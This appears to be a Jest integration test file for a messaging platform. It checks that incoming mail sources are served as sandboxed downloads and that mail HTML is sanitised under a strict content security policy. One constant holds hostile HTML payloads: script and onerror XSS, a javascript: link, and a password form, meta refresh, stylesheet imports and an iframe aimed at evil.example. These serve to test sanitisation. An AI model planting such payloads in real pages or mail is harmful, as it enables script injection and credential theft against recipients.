import { describe, expect, it } from '@jest/globals';
import * as api from '@parley/contracts';
import { eventually } from '@parley/testing';
import { messageId, messagesOf, readMails, receivingMailbox, sendMail, unique } from './arriving-mails.ts';
import { operator } from './platform.ts';

const workspace = await operator.workspace();
const { live } = workspace;

const PIXEL =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const POLICY =
  "style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors AUTH; " +
  'sandbox allow-popups allow-popups-to-escape-sandbox';

/** A mail with HTML, and an image to which that may refer as `cid:pixel`. */
const htmlMail = (html: string) => ({
  fields: ['MIME-Version: 1.0', 'Content-Type: multipart/related; boundary=b'],
  body: [
    '--b',
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
    '--b',
    'Content-Type: image/png; name="pixel.png"',
    'Content-ID: <pixel>',
    'Content-Transfer-Encoding: base64',
    '',
    PIXEL,
    '--b--',
  ].join('\r\n'),
});

type MessageParams = api.Input<typeof api.getMessageEmail>['params'];

/** Has a mail delivered, and answers it with the parameters of its message. */
async function deliver(mail: Partial<Parameters<typeof sendMail>[0]>) {
  const mailbox = await receivingMailbox(workspace);
  const sent = await sendMail({ to: mailbox.address, ...mail });
  const [incoming] = await readMails(live, mailbox, 1);
  if (incoming?.status !== 'delivered') throw new Error(`It is not delivered: ${JSON.stringify(incoming)}`);
  return { incoming, mailbox, sent, params: paramsOf(incoming) };
}

const paramsOf = ({ conversation_id, message_id }: api.IncomingMail) =>
  ({ conversation_id, message_id }) as MessageParams;

const contentOf = async (params: MessageParams) => (await live.ok(api.getMessageEmail, { params })).data;
const get = (url: string | null) => fetch(url ?? 'nothing:');

describe('the source of a mail', () => {
  it('is downloaded as it arrived, and never shown', async () => {
    const id = messageId();
    const { incoming, params, sent } = await deliver({ id, body: '<script>alert(1)</script>' });
    const content = await contentOf(params);
    for (const url of [incoming.source_url, content.source_url]) {
      const response = await get(url);
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('message/rfc822');
      expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w-]+\.eml"$/);
      expect(response.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      expect(await response.text()).toBe(sent);
    }
    expect(content).toMatchObject({ html_url: null, html_url_with_remote_content: null });
    expect(content.headers).toContainEqual({ name: 'message-id', value: id });
    expect(content.headers).toContainEqual({ name: 'subject', value: 'Where is my order?' });
  });

  it('ends with its message, also if this is in a conversation that began before', async () => {
    const first = messageId();
    const { incoming, mailbox, params } = await deliver({ ...htmlMail('<p>First</p>'), id: first });
    const from = incoming.from?.address ?? '';
    await sendMail({
      ...htmlMail('<p>Second</p>'),
      from,
      to: mailbox.address,
      fields: [...htmlMail('').fields, `In-Reply-To: ${first}`],
    });
    const [, answer] = await readMails(live, mailbox, 2);
    expect(answer?.conversation_id).toBe(incoming.conversation_id);
    const contents = [await contentOf(params), await contentOf(paramsOf(answer as api.IncomingMail))];
    const urls = contents.flatMap(({ source_url: source, html_url: html }) => [source, html]);
    for (const url of urls) expect((await get(url)).status).toBe(200);
    await live.ok(api.deleteConversation, { params: { conversation_id: params.conversation_id } });
    await eventually(async () => {
      for (const url of urls) expect((await get(url)).status).toBe(404);
    });
  });

  it('is no file of a list, and cannot be attached', async () => {
    const { incoming } = await deliver({});
    const id = /file_[0-9a-z]{26}/.exec(incoming.source_url ?? '')?.[0] as api.Id<'file'>;
    const answer = await live.call(api.getFile, { params: { file_id: id } });
    expect(answer.status).toBe(404);
    const { data } = await live.ok(api.listFiles, { query: {} });
    expect(data.map((file) => file.id)).not.toContain(id);
  });
});

describe('the HTML of a mail', () => {
  const HOSTILE = [
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/a.css"><style>@import url(https://evil.example/b.css);</style>',
    '<p style="position:fixed;background:url(https://evil.example/c.png)" onclick="alert(1)">Where is it?</p>',
    '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
    '<xmp><script>alert(2)</script></xmp><svg><style><img src=x onerror=alert(3)></style></svg>',
    '<iframe src="https://evil.example/"></iframe><script>alert(4)</script>',
    '<a href="javascript:alert(5)">A</a><a href="https://shop.example/">B</a>',
    '<img src="cid:pixel" alt="Logo"><img src="https://images.example/track.png" alt="Banner">',
  ].join('\r\n');

  it('is a document that does nothing, and requests nothing until that is asked for', async () => {
    const { params } = await deliver(htmlMail(HOSTILE));
    const content = await contentOf(params);
    const [shown, withRemote] = await Promise.all([
      get(content.html_url),
      get(content.html_url_with_remote_content),
    ]);
    const auth = new URL(workspace.credentials.auth_url).origin;
    const headersOf = (response: Response) => ({
      type: response.headers.get('content-type'),
      nosniff: response.headers.get('x-content-type-options'),
      referrer: response.headers.get('referrer-policy'),
      policy: response.headers.get('content-security-policy'),
    });
    const own = POLICY.replace('AUTH', auth);
    const rest = { type: 'text/html; charset=utf-8', nosniff: 'nosniff', referrer: 'no-referrer' };
    expect(headersOf(shown)).toEqual({ ...rest, policy: `default-src 'none'; img-src data:; ${own}` });
    expect(headersOf(withRemote)).toEqual({
      ...rest,
      policy: `default-src 'none'; img-src data: https:; ${own}; upgrade-insecure-requests`,
    });
    expect(shown.headers.get('content-disposition')).toMatch(/^inline;/);
    const [html, remote] = [await shown.text(), await withRemote.text()];
    for (const text of [html, remote]) {
      expect(text).toContain('Where is it?');
      expect(text).toContain(`src="data:image/png;base64,${PIXEL}"`);
      expect(text).toContain('href="https://shop.example/"');
      expect(text).not.toMatch(
        /evil\.example|<(?:script|form|input|button|iframe|svg|base|link|xmp)\b|refresh|javascript:|onclick|onerror=|position/i,
      );
    }
    expect(html).not.toContain(' src="https:');
    expect(remote).toContain('src="https://images.example/track.png"');
  });

  it('has one document if it loads nothing', async () => {
    const { params } = await deliver(htmlMail('<p>Hello</p>'));
    expect(await contentOf(params)).toMatchObject({
      html_url: expect.stringContaining('.html?'),
      html_url_with_remote_content: null,
    });
  });

  it('goes with the text of its message', async () => {
    const { params } = await deliver(htmlMail('<p>Hello</p>'));
    const { html_url: url } = await contentOf(params);
    await live.ok(api.deleteMessage, { params });
    expect(await live.call(api.getMessageEmail, { params })).toMatchObject({ status: 404 });
    await eventually(async () => expect((await get(url)).status).toBe(404));
  });

  it('that a user uploads is never shown as such', async () => {
    const file = new File(['<!doctype html><p>Hello</p>'], 'a.html', { type: 'text/html' });
    const { data } = await live.ok(api.createFile, { body: { file } });
    const response = await get(data.url);
    expect(response.headers.get('content-type')).not.toContain('text/html');
    expect(response.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
  });
});

describe('the mail of a message', () => {
  it('is a 404 for another workspace, and for a message that is no mail', async () => {
    const { params } = await deliver({});
    const other = await operator.workspace();
    expect(await other.live.call(api.getMessageEmail, { params })).toMatchObject({ status: 404 });
    const body = { contact: { external_id: unique() }, message: { body: 'Hello' } };
    const { data: conversation } = await live.ok(api.createConversation, { body });
    const [message] = await messagesOf(live, conversation.id);
    const own = { conversation_id: conversation.id, message_id: message?.id as api.Id<'message'> };
    expect(await live.call(api.getMessageEmail, { params: own })).toMatchObject({ status: 404 });
  });

  it('that leaves has the headers and the source that it was sent with', async () => {
    const body = {
      name: 'Sales',
      address: `${unique()}@desk.example`,
      transport: { type: 'sandbox' },
    } as const;
    const { data: mailbox } = await live.ok(api.createMailbox, { body });
    const begun = {
      contact: { email: `${unique()}@example.com` },
      mailbox_id: mailbox.id,
      subject: 'Your order',
    };
    const { data: conversation } = await live.ok(api.createConversation, { body: begun });
    const { data: message } = await live.ok(api.createMessage, {
      params: { conversation_id: conversation.id },
      body: { body: 'It left this morning.' },
    });
    const params = { conversation_id: conversation.id, message_id: message.id };
    const content = await eventually(async () => {
      const found = await contentOf(params);
      expect(found.source_url).not.toBeNull();
      return found;
    });
    expect(content).toMatchObject({ html_url: null, html_url_with_remote_content: null });
    expect(content.headers).toContainEqual({ name: 'subject', value: 'Your order' });
    expect(await (await get(content.source_url)).text()).toContain('It left this morning.');
  });
});
